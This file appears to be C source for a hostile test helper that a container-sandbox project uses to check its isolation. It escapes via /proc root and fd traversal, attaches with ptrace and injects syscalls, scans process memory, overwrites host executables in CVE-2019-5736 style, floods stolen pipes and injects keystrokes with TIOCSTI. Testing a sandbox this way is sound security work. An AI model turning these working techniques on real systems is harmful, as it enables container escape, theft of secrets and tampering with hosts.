/*
 * The accomplice: a hostile process in a container that lies in wait for sessions and takes what it can of them.
 *
 *   accomplice hunt DEEDS CANARY MARKER ROLE...
 *       Every role is a process of its own (as in tests/nest/prowl.c): "same", a uid, or a uid with "+" for its capabilities.
 *       DEEDS: l look (open CANARY through every door of /proc), t trace and have the victim open CANARY itself,
 *       s stop, k kill, a abort with a core file, T terminate, x hold the executable and write to it later, m read /proc/PID/{mountinfo,cmdline,environ} for MARKER,
 *       M search a process's memory for MARKER, f take the pipes it can write to and write what is no report, without end,
 *       i note ids and capabilities.
 *   accomplice inner CANARY          pid 1 goes into a user namespace of its own and drops everything; a sibling outside hunts
 *   accomplice keys NAME             print the key NAME of the session keyring
 *   accomplice tty                   what a program with somebody's terminal as 0, 1 or 2 would try
 *   accomplice streams               reopen 0, 1, 2 for more than they were opened for
 *   accomplice call NUMBER           make a system call without arguments, print its errno
 *   proof                            (by its name) says that it ran
 *
 * What is found is appended to /loot, one line each; the first is "ready".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../nest/become.h"

#define PIDS (1 << 16)
static unsigned short said[PIDS];
static unsigned hashes[2][PIDS];
static char own[PIDS];
static int loot = -1;

static void found(const char *format, ...)
{
	char line[2048];
	va_list list;
	va_start(list, format);
	int n = vsnprintf(line, sizeof line - 1, format, list);
	va_end(list);
	if (n > (int)sizeof line - 2)
		n = sizeof line - 2;
	for (int i = 0; i < n; i++)
		if (line[i] == '\n' || !line[i])
			line[i] = ' ';
	line[n++] = '\n';
	if (write(loot, line, n) != n)
		_exit(3);
}

static int once(int pid, int what)
{
	int bit = 1 << what, slot = pid % PIDS;
	if (said[slot] & bit)
		return 0;
	said[slot] |= bit;
	return 1;
}

static int content(const char *path, char *text, int size)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC), n;
	if (fd < 0)
		return -1;
	n = read(fd, text, size - 1);
	close(fd);
	text[n > 0 ? n : 0] = 0;
	return n;
}

static int whole(const char *path, char *text, int size)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC), n, all = 0;
	if (fd < 0)
		return -1;
	while (all < size - 1 && (n = read(fd, text + all, size - 1 - all)) > 0)
		all += n;
	close(fd);
	for (int i = 0; i < all; i++)
		if (!text[i])
			text[i] = ' ';
	text[all] = 0;
	return all;
}

static int foreign(int pid)
{
	return pid > 1 && !own[pid % PIDS] && getsid(pid) != getsid(0);
}

static unsigned hash(const char *text)
{
	unsigned h = 5381;
	while (*text)
		h = h * 33 + (unsigned char)*text++;
	return h | 1;
}

static const char *name_of(int pid)
{
	static char path[64], text[512], name[128];
	int n = 0;
	/* Its ancestors, for a test that has to tell its own processes from others. */
	for (int up = 0; up < 4 && pid > 1; up++) {
		snprintf(path, sizeof path, "/proc/%d/stat", pid);
		if (content(path, text, sizeof text) <= 0 || !strrchr(text, ')'))
			break;
		pid = atoi(strrchr(text, ')') + 4);
		n += snprintf(name + n, sizeof name - n, "<%d", pid);
	}
	return n ? name : "?";
}

static void look(const char *role, int pid, const char *canary)
{
	static const char up[] = "../../../../../../../../../../..";
	char path[512], text[256];
	snprintf(path, sizeof path, "/proc/%d/root%s", pid, canary);
	if (content(path, text, sizeof text) > 0 && once(pid, 0))
		found("canary root %d %s %s %s", pid, role, name_of(pid), text);
	snprintf(path, sizeof path, "/proc/%d/root/%s%s", pid, up, canary);
	if (content(path, text, sizeof text) > 0 && once(pid, 1))
		found("canary up %d %s %s %s", pid, role, name_of(pid), text);
	snprintf(path, sizeof path, "/proc/%d/cwd/%s%s", pid, up, canary);
	if (content(path, text, sizeof text) > 0 && once(pid, 2))
		found("canary cwd %d %s %s %s", pid, role, name_of(pid), text);
	for (int fd = 0; fd < 24; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d/%s%s", pid, fd, up, canary);
		if (content(path, text, sizeof text) > 0 && once(pid, 3))
			found("canary fd %d %s %s %s", pid, role, name_of(pid), text);
	}
	/* Writing to the host: the file beside the canary, which every user of the host may read and only root write. */
	snprintf(path, sizeof path, "/proc/%d/root%s.public", pid, canary);
	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd >= 0) {
		if (write(fd, "written by the container\n", 25) == 25 && once(pid, 4))
			found("written root %d %s %s", pid, role, name_of(pid));
		close(fd);
	}
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0) {
		if (once(pid, 5))
			found("memory %d %s %s", pid, role, name_of(pid));
		close(fd);
	}
}

static void note_ids(const char *role, int pid)
{
	char path[64], text[4096], *at, *caps, *eff;
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	if (content(path, text, sizeof text) <= 0 || !(at = strstr(text, "\nUid:")) || !(caps = strstr(at, "\nCapPrm:")))
		return;
	eff = strstr(caps, "\nCapBnd:");
	if (eff)
		*eff = 0;
	at[strcspn(at + 1, "\n") + 1] = 0;
	if (hash(caps) + hash(at) == hashes[0][pid % PIDS])
		return;
	hashes[0][pid % PIDS] = hash(caps) + hash(at);
	found("ids %d %s%s%s", pid, role, at, caps);
}

static void read_texts(const char *role, int pid, const char *marker)
{
	static const char *const files[] = {"cmdline", "mountinfo", "environ", "maps", "stat", "comm", "cgroup", "mounts"};
	static char text[1 << 18];
	char path[64], *at;
	for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
		if (whole(path, text, sizeof text) > 0 && (at = strstr(text, marker)) && once(pid, 6 + i)) {
			at = at - text > 100 ? at - 100 : text;
			found("text %s %d %s %.300s", files[i], pid, role, at);
		}
	}
}

/* All that is written to in a process, with the right to trace it: its variables, its heap, whoever it was forked from. */
static void search_memory(const char *role, int pid, const char *marker)
{
	static char scans[PIDS], data[1 << 16];
	char path[64], line[512];
	unsigned long start, end;
	if (scans[pid % PIDS] >= 3)
		return;
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "re");
	if (!maps)
		return;
	for (int parts = 0; fgets(line, sizeof line, maps); parts++) {
		if (sscanf(line, "%lx-%lx rw", &start, &end) != 2 || !strstr(line, " rw"))
			continue;
		scans[pid % PIDS] += parts == 0;
		for (unsigned long at = start; at < end && end - start < 64ul << 20; at += sizeof data) {
			struct iovec here = {data, sizeof data}, there = {(void *)at, end - at < sizeof data ? end - at : sizeof data};
			long count = process_vm_readv(pid, &here, 1, &there, 1, 0);
			char *hit = count > 0 ? memmem(data, count, marker, strlen(marker)) : NULL;
			if (hit && once(pid, 11))
				found("memory holds %d %s %s %.60s", pid, role, name_of(pid), hit);
		}
	}
	scans[pid % PIDS]++;
	fclose(maps);
}

#if defined(__x86_64__)
/* One system call made by a traced process; its result. */
static long inject(int pid, long number, long a, long b, long c)
{
	struct user_regs_struct saved, regs;
	int status;
	if (ptrace(PTRACE_GETREGS, pid, 0, &saved))
		return -1000;
	errno = 0;
	long word = ptrace(PTRACE_PEEKTEXT, pid, saved.rip, 0);
	if (errno || ptrace(PTRACE_POKETEXT, pid, saved.rip, (word & ~0xffffffL) | 0xcc050f))
		return -1000;
	regs = saved;
	regs.rax = number, regs.orig_rax = -1, regs.rdi = a, regs.rsi = b, regs.rdx = c;
	ptrace(PTRACE_SETREGS, pid, 0, &regs);
	ptrace(PTRACE_CONT, pid, 0, 0);
	waitpid(pid, &status, __WALL);
	ptrace(PTRACE_GETREGS, pid, 0, &regs);
	ptrace(PTRACE_POKETEXT, pid, saved.rip, word);
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
	return regs.rax;
}

static void trace(const char *role, int pid, const char *canary)
{
	struct user_regs_struct regs;
	char text[256] = "";
	int status;
	if (!once(pid, 15) || ptrace(PTRACE_ATTACH, pid, 0, 0))
		return;
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return;
	found("traced %d %s %s", pid, role, name_of(pid));
	if (!ptrace(PTRACE_GETREGS, pid, 0, &regs)) {
		long place = regs.rsp - 8192;
		struct iovec here = {(void *)canary, strlen(canary) + 1}, there = {(void *)place, here.iov_len};
		if (process_vm_writev(pid, &here, 1, &there, 1, 0) > 0) {
			long fd = inject(pid, SYS_open, place, O_RDONLY, 0);
			if (fd >= 0 && inject(pid, SYS_read, fd, place, 200) > 0) {
				struct iovec back = {text, 200};
				there.iov_len = 200;
				if (process_vm_readv(pid, &back, 1, &there, 1, 0) > 0)
					found("canary traced %d %s %s", pid, role, text);
			}
		}
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
}
#else
static void trace(const char *role, int pid, const char *canary)
{
	if (once(pid, 15) && !ptrace(PTRACE_ATTACH, pid, 0, 0))
		found("canary traced %d %s %s", pid, role, canary);
}
#endif

/* CVE-2019-5736 from outside: an executable that is held by an O_PATH fd is opened for writing once nobody runs it. */
static int held[64], n_held;

static void hold(int pid)
{
	char path[64];
	struct stat info, here;
	char name[512] = "";
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	if (n_held >= 64 || !once(pid, 12))
		return;
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		said[pid % PIDS] &= ~(1 << 12);
	else if (readlink(path, name, sizeof name - 1) > 0 && !fstat(fd, &info) && !stat(name, &here) && here.st_ino == info.st_ino)
		close(fd); /* a program of the container's own, by the same name in its root */
	else
		held[n_held++] = fd;
}

static void write_to_held(const char *role)
{
	char path[64];
	for (int i = 0; i < n_held; i++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
		int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (write(fd, "\n", 1) == 1)
			found("written executable %d %s", held[i], role);
		close(fd);
		close(held[i]);
		held[i] = held[--n_held];
	}
}

/* The pipes by which a session tells how it goes on: half a record, reports that are none, and more than anybody can hold. */
static void flood(const char *role, int pid)
{
	static const char *const reports[] = {
		"\x08\0exited\0x", "\x0d\0failed\0launch", "\x06\0nest\0x", "\x08\0killed\0x", "\x18\0exited\0" "99999999999999999", "\x10\0left\0forged\x1b[31m",
	};
	static const unsigned char lengths[] = {10, 15, 8, 10, 26, 18};
	static char junk[1 << 16];
	struct stat info;
	int taken[64], n = 0, holder = syscall(SYS_pidfd_open, pid, 0);
	if (holder < 0 || !once(pid, 10))
		return;
	for (int number = 3; number < 64; number++) {
		int fd = syscall(SYS_pidfd_getfd, holder, number, 0);
		if (fd >= 0 && !fstat(fd, &info) && S_ISFIFO(info.st_mode) && (fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY)
			taken[n++] = fd;
		else if (fd >= 0)
			close(fd);
	}
	close(holder);
	if (!n)
		said[pid % PIDS] &= ~(1 << 10);
	for (int i = 0; i < n; i++) {
		found("pipe %d %s", pid, role);
		if (fork() == 0) {
			prctl(PR_SET_PDEATHSIG, 9, 0, 0, 0);
			signal(SIGPIPE, SIG_DFL);
			for (unsigned k = 0; k < sizeof reports / sizeof *reports; k++)
				if (write(taken[i], reports[k], lengths[k]) < 0)
					_exit(0);
			if (write(taken[i], "E\0\0", 3) < 0)
				_exit(0);
			usleep(300000);
			while (write(taken[i], junk, sizeof junk) >= 0)
				;
			_exit(0);
		}
		close(taken[i]);
	}
}

static void meet(const char *role, int pid, const char *deeds, const char *canary, const char *marker)
{
	if (!foreign(pid))
		return;
	for (; *deeds; deeds++)
		switch (*deeds) {
		case 'l': look(role, pid, canary); break;
		case 't': trace(role, pid, canary); break;
		case 'i': note_ids(role, pid); break;
		case 'x': hold(pid); break;
		case 'm': read_texts(role, pid, marker); break;
		case 'M': search_memory(role, pid, marker); break;
		case 'f': flood(role, pid); break;
		case 's': if (!kill(pid, SIGSTOP) && once(pid, 14)) found("stopped %d %s", pid, role); break;
		case 'k': if (!kill(pid, SIGKILL) && once(pid, 14)) found("killed %d %s", pid, role); break;
		case 'T': if (!kill(pid, SIGTERM) && once(pid, 14)) found("terminated %d %s", pid, role); break;
		case 'a': {
			struct rlimit limit = {RLIM_INFINITY, RLIM_INFINITY};
			if (!prlimit(pid, RLIMIT_CORE, &limit, NULL) && once(pid, 13))
				found("core limit lifted %d %s", pid, role);
			if (!kill(pid, SIGABRT) && once(pid, 14))
				found("aborted %d %s", pid, role);
		}
		}
}

static void hunt(const char *deeds, const char *canary, const char *marker, const char *role)
{
	become(role);
	prctl(PR_SET_PDEATHSIG, 9, 0, 0, 0); /* after the change of ids, which clears it */
	if (nice(5) == -1)
		_exit(4);
	for (unsigned round = 0;; round++) {
		char text[128], *last;
		content("/proc/loadavg", text, sizeof text);
		int newest = (last = strrchr(text, ' ')) ? atoi(last) : 0;
		for (int pid = newest + 3; pid > newest - 12 && pid > 1; pid--)
			meet(role, pid, deeds, canary, marker);
		usleep(100); /* the machine has others, and a session lives for longer */
		if (round % 16)
			continue;
		usleep(500);
		write_to_held(role);
		DIR *dir = opendir("/proc");
		for (struct dirent *entry; dir && (entry = readdir(dir));)
			if (atoi(entry->d_name) > 1)
				meet(role, atoi(entry->d_name), deeds, canary, marker);
		if (dir)
			closedir(dir);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
}

static void know_own(void)
{
	DIR *dir = opendir("/proc");
	for (struct dirent *entry; dir && (entry = readdir(dir));)
		own[(unsigned)atoi(entry->d_name) % PIDS] = 1;
	if (dir)
		closedir(dir);
}

static void ready(void)
{
	found("ready");
}

static void wait_for_ever(void)
{
	for (;;) {
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		usleep(20000);
	}
}

static void spawn(const char *deeds, const char *canary, const char *marker, const char *role)
{
	if (fork() == 0) {
		hunt(deeds, canary, marker, role);
	}
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		found("could not write %s: %d", path, errno);
	if (fd >= 0)
		close(fd);
}

/* A sibling outside owns the user namespace that pid 1 goes into, and has every capability over what is in it. */
static int inner(const char *canary)
{
	char line[64];
	int uid = getuid(), gid = getgid();
	spawn("lt", canary, "-", "same");
	if (unshare(CLONE_NEWUSER)) {
		found("no user namespace: %d", errno);
		return 5;
	}
	put("/proc/self/setgroups", "deny");
	snprintf(line, sizeof line, "0 %d 1", uid);
	put("/proc/self/uid_map", line);
	snprintf(line, sizeof line, "0 %d 1", gid);
	put("/proc/self/gid_map", line);
	prctl(PR_CAPBSET_DROP, CAP_SYS_PTRACE, 0, 0, 0);
	struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct none[2] = {{0}};
	syscall(SYS_capset, &header, none);
	ready();
	wait_for_ever();
	return 0;
}

static int keys(const char *name)
{
	char text[256] = "";
	syscall(SYS_keyctl, 8, -4, -3); /* KEYCTL_LINK: the user's keyring into the session's */
	/* KEYCTL_SEARCH in the session keyring (-3), the session's parent's through KEYCTL_SESSION_TO_PARENT is none of ours. */
	long key = syscall(SYS_keyctl, 10, -3, "user", name, 0);
	if (key < 0)
		key = syscall(SYS_request_key, "user", name, NULL, 0);
	if (key < 0) {
		printf("no key: %s\n", strerror(errno));
		return 1;
	}
	syscall(SYS_keyctl, 11, key, text, sizeof text - 1);
	printf("key: %s\n", text);
	return 0;
}

static int tty(void)
{
	const char *word = "echo typed-by-the-container\n";
	int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR)};
	for (int i = 0; i < 4; i++) {
		if (fds[i] < 0)
			continue;
		for (const char *c = word; *c; c++)
			if (ioctl(fds[i], TIOCSTI, c)) {
				break;
			} else if (!c[1]) {
				printf("typed through %d\n", i);
			}
		char path[32], mode;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
		int again = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
		mode = again >= 0 && isatty(again);
		if (mode && !ioctl(again, TIOCSCTTY, 1)) {
			for (const char *c = word; *c; c++)
				if (ioctl(again, TIOCSTI, c)) {
					break;
				} else if (!c[1]) {
					printf("typed through a taken terminal, %d\n", i);
				}
		}
	}
	fflush(stdout);
	return 0;
}

static int streams(void)
{
	char path[32], text[128];
	struct stat info;
	for (int fd = 0; fd < 3; fd++) {
		if (fstat(fd, &info))
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		if (S_ISREG(info.st_mode) || S_ISBLK(info.st_mode) || S_ISDIR(info.st_mode) || S_ISFIFO(info.st_mode) || S_ISCHR(info.st_mode)) {
			int write_end = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
			if (S_ISREG(info.st_mode) && write_end >= 0 && write(write_end, "written by the container\n", 25) == 25)
				fprintf(stderr, "wrote to %d\n", fd);
			int n = content(path, text, sizeof text);
			if (S_ISREG(info.st_mode) && n > 0)
				fprintf(stderr, "read %d: %s\n", fd, text);
		}
		for (int up = 0; S_ISDIR(info.st_mode) && up < 2; up++) {
			int root = openat(fd, up ? "../../../../../../../../.." : ".", O_RDONLY | O_DIRECTORY);
			DIR *dir = root >= 0 ? fdopendir(root) : NULL;
			for (struct dirent *entry; dir && (entry = readdir(dir));)
				fprintf(stderr, "saw %s\n", entry->d_name);
		}
		if (S_ISREG(info.st_mode) && fd == 0 && ftruncate(fd, 0) == 0)
			fprintf(stderr, "truncated %d\n", fd);
		if (S_ISREG(info.st_mode) && fchmod(fd, 06777) == 0)
			fprintf(stderr, "changed the mode of %d\n", fd);
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *name = strrchr(argv[0], '/') ? strrchr(argv[0], '/') + 1 : argv[0];
	if (!strncmp(name, "proof", 5)) {
		char text[256] = "";
		snprintf(text, sizeof text, "THE-PROOF-RAN as %d in %s\n", getuid(), argc > 1 ? argv[1] : "-");
		if (write(1, text, strlen(text)) < 0)
			return 1;
		int fd = open("/loot", O_WRONLY | O_APPEND);
		if (fd >= 0 && write(fd, text, strlen(text)) < 0)
			return 1;
		return 0;
	}
	loot = open("/loot", O_WRONLY | O_APPEND | O_CLOEXEC);
	if (argc < 2)
		return 2;
	if (!strcmp(argv[1], "keys"))
		return keys(argv[2]);
	if (!strcmp(argv[1], "tty"))
		return tty();
	if (!strcmp(argv[1], "streams"))
		return streams();
	if (!strcmp(argv[1], "call")) {
		long answer = syscall(atol(argv[2]), -1, -1, -1, -1, -1, -1);
		printf("%ld %d\n", answer, answer < 0 ? errno : 0);
		return 0;
	}
	setsid();
	know_own();
	if (!strcmp(argv[1], "inner"))
		return inner(argv[2]);
	if (strcmp(argv[1], "hunt") || argc < 6)
		return 2;
	for (int i = 5; i < argc; i++)
		spawn(argv[2], argv[3], argv[4], argv[i]);
	ready();
	wait_for_ever();
}
